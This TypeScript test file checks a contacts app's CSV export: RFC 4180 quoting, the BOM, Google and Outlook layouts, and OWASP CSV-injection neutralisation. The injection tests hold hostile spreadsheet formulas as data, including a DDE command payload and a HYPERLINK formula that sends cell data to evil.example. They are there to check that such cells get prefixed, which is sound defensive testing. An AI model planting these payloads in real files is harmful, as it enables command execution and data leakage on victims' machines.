// Writing CSV: RFC 4180 quoting, UTF-8 with BOM, OWASP CSV-injection neutralisation that leaves
// plain international phone numbers readable, and the Google/Outlook layouts read back by the
// importer to the same contacts.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import type { ContactFields } from '../../../shared/model/contact.ts';
import { emptyContactFields } from '../../../shared/model/contact.ts';
import { csvCell, csvText, neutralize } from '../../../electron/engine/transfer/csv-write.ts';
import { readCsv } from '../../../electron/engine/transfer/csv-read.ts';
import { cleanCell } from '../../../electron/engine/transfer/csv-fields.ts';
import { googleLayout, outlookLayout } from '../../../electron/engine/transfer/csv-layouts.ts';
import { readImport } from '../../../electron/engine/transfer/read.ts';
import { hubHash } from '../../../electron/engine/hub/contacts.ts';

describe('CSV injection (OWASP)', () => {
  it('prefixes cells a spreadsheet would run as formulas', () => {
    for (const attack of ['=HYPERLINK("http://evil.example?x="&A1,"click")', "=cmd|' /C calc'!A0", '+SUM(1+1)', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1']) {
      expect(neutralize(attack)).toBe(`'${attack}`);
      expect(neutralize(attack, true)).toBe(`'${attack}`);
    }
    expect(neutralize('Ann')).toBe('Ann');
    expect(neutralize('a=b')).toBe('a=b');
  });

  it('keeps plain international phone numbers readable, but not phone cells that could run', () => {
    expect(neutralize('+86 138 0013 8000', true)).toBe('+86 138 0013 8000');
    expect(neutralize('+1 (415) 555-0100', true)).toBe('+1 (415) 555-0100');
    expect(neutralize('+44.20.7946.0018', true)).toBe('+44.20.7946.0018');
    expect(neutralize('+1 415 CALL-NOW', true)).toBe("'+1 415 CALL-NOW");
    expect(neutralize('+HYPERLINK("x")', true)).toBe(`'+HYPERLINK("x")`);
    expect(neutralize('-1 555', true)).toBe("'-1 555");
    // Outside phone columns a leading + is neutralised like any formula start.
    expect(neutralize('+86 138 0013 8000')).toBe("'+86 138 0013 8000");
  });

  it('quotes as RFC 4180 says, and ; and TAB for Excel in semicolon locales', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('a;=1+1')).toBe('"a;=1+1"');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
  });

  it('writes a BOM, CRLF after every record, and reads back to the same cells', () => {
    const text = csvText([{ header: 'A' }, { header: 'B', phone: true }], [['x', '+1 555'], ['=2', '0123']]);
    expect(text).toBe("\ufeffA,B\r\nx,+1 555\r\n'=2,0123\r\n");
    const cell = fc.string({ unit: 'binary', maxLength: 30 }).map((s) => s.trim());
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 8 }), fc.boolean(), (rows, phone) => {
        // A row whose cells are all empty is a blank line, which readers skip: keep one cell filled.
        const data = rows.map((r) => (r.every((c) => c === '') ? ['x', r[1], r[2]] : [...r]));
        const written = csvText([{ header: 'A' }, { header: 'B', phone }, { header: 'C' }], data);
        const table = readCsv(written.slice(1));
        expect(table.broken).toEqual([]);
        expect(table.rows.map((r) => r.cells.map(cleanCell))).toEqual(data.map((r) => r.map((c) => c.replace(/\r\n?/g, '\n'))));
      }),
      { numRuns: 300 },
    );
  });
});

function richContact(): ContactFields {
  const f = emptyContactFields();
  f.name = { prefix: 'Dr.', given: 'Ada', middle: 'King', family: 'Lovelace', suffix: 'FRS', phoneticGiven: 'AY-da', phoneticMiddle: '', phoneticFamily: 'LUV-lace' };
  f.nicknames = ['Countess'];
  f.emails = [
    { value: 'ada@example.org', label: 'home', primary: true },
    { value: 'ada@engines.example', label: 'work', primary: false },
  ];
  f.phones = [
    { value: '+44 20 7946 0018', label: 'mobile', primary: true },
    { value: '020 7946 0000', label: 'work', primary: false },
    { value: '+44 20 7946 0999', label: 'work fax', primary: false },
    { value: '00353 1 234 5678', label: "Grandma's landline", primary: false },
  ];
  f.addresses = [
    { label: 'home', primary: false, poBox: '', extended: 'Flat 2', street: "12 St James's Square", locality: 'London', region: '', postalCode: 'SW1Y 4JH', country: 'United Kingdom', countryCode: '' },
  ];
  f.organizations = [{ name: 'Analytical Engines, Ltd.', department: 'Research', title: 'Mathematician', phoneticName: '' }];
  f.birthday = { year: null, month: 12, day: 10 };
  f.dates = [{ label: 'anniversary', date: { year: 1835, month: 7, day: 8 } }];
  f.urls = [{ value: 'https://example.org/ada', label: 'profile', primary: false }];
  f.ims = [{ value: 'ada.l', service: 'skype', label: 'home' }];
  f.relations = [{ value: 'William King', label: 'spouse', primary: false }];
  f.note = '=HYPERLINK("http://evil.example","click")\nSecond line, with "quotes"; and a semicolon.';
  f.groups = ['Friends', 'Starred'];
  f.customFields = [{ key: 'Shoe size', value: '-38' }];
  return f;
}

function chineseContact(): ContactFields {
  const f = emptyContactFields();
  f.name.given = '伟';
  f.name.family = '张';
  f.phones = [{ value: '+86 138 0013 8000', label: 'mobile', primary: false }];
  f.emails = [{ value: 'zhang.wei@example.cn', label: 'work', primary: false }];
  f.organizations = [{ name: '北京星辰科技有限公司', department: '研发部', title: '工程师', phoneticName: '' }];
  f.birthday = { year: 1985, month: 3, day: 7 };
  f.note = '@客户 — 喜欢喝茶';
  return f;
}

const reread = (text: string) => readImport({ bytes: Buffer.from(text, 'utf8'), text: null, fileName: 'x.csv', format: 'auto' });

describe('layouts read back by the importer', () => {
  it('Google layout: export then import gives the same contacts', () => {
    const contacts = [richContact(), chineseContact()].map((fields, i) => ({ id: `c${i}`, fields }));
    const layout = googleLayout(contacts);
    expect(layout.warnings).toEqual([]);
    const text = csvText(layout.columns, layout.rows);
    expect(text.startsWith('\ufeffFirst Name,Middle Name,Last Name,')).toBe(true);
    // The formula note is neutralised, the phone is not.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example"",""click"")`);
    expect(text).toContain(',+86 138 0013 8000,');
    const parsed = reread(text);
    expect(parsed).toMatchObject({ dialect: 'google', skipped: [], warnings: [] });
    expect(parsed.records.map((r) => hubHash(r.fields))).toEqual(contacts.map((c) => hubHash(c.fields)));
    expect(parsed.records[0]!.fields.note).toBe(contacts[0]!.fields.note);
  });

  it('Outlook layout: what has a slot comes back; what has none is named in the warnings', () => {
    const rich = richContact();
    const contacts = [rich, chineseContact()].map((fields, i) => ({ id: `c${i}`, fields }));
    const layout = outlookLayout(contacts);
    expect(layout.warnings).toEqual([expect.stringMatching(/Lovelace FRS: .*no place for the label “Grandma's landline” of 00353 1 234 5678, birthday without a year \(--12-10\), 1 IM handle\(s\), 1 custom field\(s\)$/)]);
    const parsed = reread(csvText(layout.columns, layout.rows));
    expect(parsed).toMatchObject({ dialect: 'outlook', skipped: [] });
    const [ada, zhang] = parsed.records.map((r) => r.fields);
    expect(zhang).toEqual({ ...chineseContact(), emails: [{ value: 'zhang.wei@example.cn', label: null, primary: false }] });
    expect(ada!.name).toEqual(rich.name);
    expect(ada!.phones.map((p) => [p.label, p.value])).toEqual([
      ['work fax', '+44 20 7946 0999'],
      ['work', '020 7946 0000'],
      ['mobile', '+44 20 7946 0018'],
      ['other', '00353 1 234 5678'],
    ]);
    expect(ada!.addresses).toEqual(rich.addresses);
    expect(ada!.note).toBe(rich.note);
    expect(ada!.groups).toEqual(rich.groups);
    expect(ada!.relations).toEqual(rich.relations);
    expect(ada!.dates).toEqual(rich.dates);
  });
});
